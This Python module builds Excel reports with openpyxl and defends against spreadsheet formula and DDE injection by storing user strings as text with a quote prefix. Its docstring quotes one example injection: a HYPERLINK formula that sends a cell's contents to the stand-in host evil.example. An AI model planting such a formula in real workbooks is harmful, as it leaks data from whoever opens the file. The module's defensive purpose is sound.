"""Reports as Excel workbooks: Chinese headers, real dates, frozen header rows, filters.

Every string is written as a text cell, whatever it starts with: a note such as
``=HYPERLINK("http://evil.example/?leak="&A1,"点击查看照片")`` or a name beginning with ``=``,
``+``, ``-`` or ``@`` is shown as typed, never evaluated as a formula, a DDE call or a link
(openpyxl would make any string starting with ``=`` a formula). Text that starts like a formula
also gets Excel's quote prefix, so editing the cell keeps it text. The only formulas are the
ones the report writes itself, as ``Formula`` values. Characters XML cannot hold (control
characters a phone keyboard can paste) are dropped rather than failing the whole report.

Overdue rows get a static fill computed from the report's date, because a ``TODAY()`` rule is
evaluated only by Excel (not by LibreOffice previews, mail viewers or openpyxl); a conditional
rule is added as well so the sheet stays right when opened later in Excel.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from datetime import date, datetime
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from houqin.clock import as_local

DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
HEADER_FILL = PatternFill("solid", fgColor="DCE6F0")
OVERDUE_FILL = PatternFill("solid", fgColor="FDE2E1")
BOLD = Font(bold=True)
# what Excel, LibreOffice and WPS read as the start of a formula (or DDE) when a cell is edited
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


class Formula(str):
    """A formula the report itself writes (the assessment's arithmetic), never user data."""


def new_workbook() -> Workbook:
    wb = Workbook()
    wb.remove(wb.active)
    return wb


def table(
    wb: Workbook,
    title: str,
    headers: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    widths: Sequence[int] | None = None,
    overdue: Iterable[bool] | None = None,
    live_overdue: tuple[str, str, str] | None = None,
) -> Worksheet:
    """A sheet with a header row, frozen below it, with a filter over all columns.

    ``overdue`` marks rows to fill now; ``live_overdue`` = (status column, due column, open
    status text) adds the Excel rule ``status = open AND due < TODAY()``.
    """
    ws = wb.create_sheet(title)
    append(ws, headers)
    for cell in ws[1]:
        cell.font, cell.fill = BOLD, HEADER_FILL
        cell.alignment = Alignment(vertical="center")
    marks = iter(overdue) if overdue is not None else None
    for row in rows:
        append(ws, row)
        if marks is not None and next(marks, False):
            for cell in ws[ws.max_row]:
                cell.fill = OVERDUE_FILL
    last = get_column_letter(len(headers))
    ws.freeze_panes = "A2"
    ws.auto_filter.ref = f"A1:{last}{max(ws.max_row, 2)}"
    for i, width in enumerate(widths or [14] * len(headers), 1):
        ws.column_dimensions[get_column_letter(i)].width = width
    if live_overdue is not None and ws.max_row > 1:
        status_col, due_col, open_text = live_overdue
        ws.conditional_formatting.add(
            f"A2:{last}{ws.max_row}",
            FormulaRule(
                formula=[f'AND(${status_col}2="{open_text}",${due_col}2<TODAY())'],
                fill=OVERDUE_FILL,
            ),
        )
    return ws


def key_values(wb: Workbook, title: str, pairs: Iterable[tuple[str, Any]]) -> Worksheet:
    """A two-column sheet of labelled values (report heading, totals)."""
    ws = wb.create_sheet(title)
    for label, value in pairs:
        append(ws, [label, value])
        ws.cell(ws.max_row, 1).font = BOLD
    ws.column_dimensions["A"].width = 18
    ws.column_dimensions["B"].width = 40
    return ws


def append(ws: Worksheet, values: Iterable[Any]) -> None:
    """A row at the bottom of the sheet: text as text, dates as dates, ``Formula`` as formula."""
    values = list(values)
    ws.append([None] * len(values))
    row = ws.max_row
    for column, value in enumerate(values, 1):
        put(ws, row, column, value)


def put(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """One cell, typed by what ``value`` is rather than by what a string starts with."""
    cell: Cell = ws.cell(row, column)
    if isinstance(value, Formula):
        cell.value = str(value)
        return cell
    if isinstance(value, str):
        text = ILLEGAL_CHARACTERS_RE.sub("", value)
        cell.value = text
        cell.data_type = "s"  # after the value: openpyxl types "=..." as a formula
        if text.startswith(FORMULA_START):
            cell.quotePrefix = True
        return cell
    cell.value = _cell(value)
    if isinstance(value, datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, date):
        cell.number_format = DATE_FORMAT
    return cell


def local_date(instant: datetime | None, tz: str) -> date | None:
    """The local calendar date of an instant: what a 截止日期 column shows."""
    return None if instant is None else as_local(instant, tz).date()


def save(wb: Workbook, out: Path) -> Path:
    out.parent.mkdir(parents=True, exist_ok=True)
    wb.save(out)
    return out


def _cell(value: Any) -> Any:
    # openpyxl refuses aware datetimes; callers pass local dates or naive local times.
    if isinstance(value, datetime) and value.tzinfo is not None:
        return value.replace(tzinfo=None)
    return value
